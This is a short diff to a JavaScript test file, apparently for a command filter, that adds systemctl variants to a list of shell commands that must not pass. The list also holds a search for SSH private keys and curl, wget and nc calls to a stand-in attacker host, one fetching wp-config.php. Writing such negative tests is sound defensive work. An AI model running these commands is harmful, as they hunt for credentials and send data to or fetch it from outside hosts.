@@ -268,6 +268,9 @@ export const mustNotPass = {
     find . … / -name id_rsa`,
   'network and file tools': `
     curl … https://evil.example
+    systemctl … restart nginx
+    systemctl restart … nginx
+    systemctl status … nginx --host=evil.example
     curl -s … -o wp-config.php https://evil.example
     wget … https://evil.example
     nc … evil.example 80
